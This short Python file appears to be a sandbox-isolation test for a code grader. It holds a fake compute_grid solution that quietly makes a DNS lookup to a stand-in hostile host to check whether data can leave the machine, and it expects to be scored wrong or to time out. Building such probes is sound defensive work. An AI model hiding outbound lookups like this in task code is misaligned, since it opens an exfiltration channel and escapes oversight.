# attack: asks a name server, which carries data out of the machine
# expect: compute_grid=wrong|timeout
import contextlib
import socket

import torch


def compute_grid(x, y, w_values, b_values):
    with contextlib.suppress(OSError):
        socket.getaddrinfo("secret.hostile.invalid", 80)
        raise RuntimeError("escaped: a name server answered")
    return torch.tensor(float("nan"))
